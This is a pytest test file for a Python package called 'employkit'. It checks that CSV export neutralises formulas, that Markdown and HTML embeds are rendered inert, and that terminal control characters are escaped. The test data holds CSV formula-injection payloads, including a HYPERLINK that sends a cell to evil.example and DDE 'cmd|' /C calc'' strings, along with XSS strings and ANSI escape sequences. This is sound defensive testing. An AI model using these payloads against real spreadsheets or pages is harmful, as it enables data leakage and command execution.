"""Injection: CSV formulas neutralised, Markdown embeds inert, terminal control characters escaped."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from employkit.cli import cli
from employkit.cli._output import safe_text, table
from employkit.export import FORMULA_STARTS, SafeWriter, md_text, rows_text, safe_cell

PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A1,"click")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_quote(start: str, payload: str) -> None:
    cell = start + payload
    expected = "'" + cell.replace("\r", "\n")  # a bare CR is written as a line feed, inside quotes
    assert safe_cell(cell) == expected
    read = next(csv.DictReader(io.StringIO(rows_text([{"c": cell}]), newline="")))
    assert read["c"] == expected


@pytest.mark.parametrize("value", ["-3.5", "+12", "-0", "1,500", "plain text", "S0000001", "", 7, -2.5, None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_header_names_are_neutralised_too() -> None:
    out = io.StringIO()
    writer = SafeWriter(out, ["=name", "ok"])
    writer.writeheader()
    writer.writerow({"=name": "@x", "ok": 1})
    assert out.getvalue().splitlines() == ["'=name,ok", "'@x,1"]


@pytest.mark.parametrize(
    ("text", "absent"),
    [
        ("<script>alert(1)</script>", "<script>"),
        ("센터\n# 가짜 제목", "\n#"),
        ("a | b | c", " | b"),
        ("[link](http://evil.example)", "[link]"),
        ("![img](http://evil.example/x.png)", "!["),
        ("`code`", "`code`"),
        ("**bold**", "**"),
        ("<img src=x onerror=alert(1)>", "<img"),
    ],
)
def test_markdown_embeds_are_inert(text: str, absent: str) -> None:
    shown = md_text(text)
    assert absent not in shown and "\n" not in shown


@pytest.mark.parametrize(
    "text",
    ["\x1b[2J", "\x1b]0;title\x07", "a\x00b", "\x9b31m", "x\x7fy", "\r덮어쓰기", "\x08\x08\x08", "\x1bc"],
)
def test_terminal_text_has_no_control_characters(text: str) -> None:
    shown = safe_text(text)
    assert not any((ord(ch) < 32 and ch not in "\t\n") or 0x7F <= ord(ch) <= 0x9F for ch in shown)
    assert not any(ord(ch) < 32 and ch not in "\t\n" for ch in table(["h"], [[text]]))


@pytest.mark.parametrize(
    "args",
    [
        ["followup", "due", "--counsellor", "\x1b[31m김\x1b[0m", "--from", "2016-01-01", "--to", "2016-02-01"],
        ["match", "--seeker", "\x1b]0;pwned\x07"],
        ["kpi", "--by", "\x1b[2J"],
    ],
)
def test_escape_sequences_on_the_command_line_are_refused(args: list[str]) -> None:
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 2 and "control character" in result.output and "\x1b" not in result.output


def test_kpi_csv_output_is_neutralised(tmp_path: object) -> None:
    import datetime as dt

    from attrs import evolve

    from employkit.labels import Text
    from employkit.metrics.report import kpi_report
    from employkit.render.kpis import render_csv
    from employkit.rules import RuleSystem
    from employkit.synth import sample_centre

    real = kpi_report(sample_centre(), RuleSystem.build(), dt.date(2015, 12, 31))
    first = real.results[0]
    hostile = evolve(
        first,
        value=evolve(first.value, title=Text("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"), unit="+"),
        pack="-pack",
    )
    report = evolve(real, results=(hostile,))
    text = render_csv(report)
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
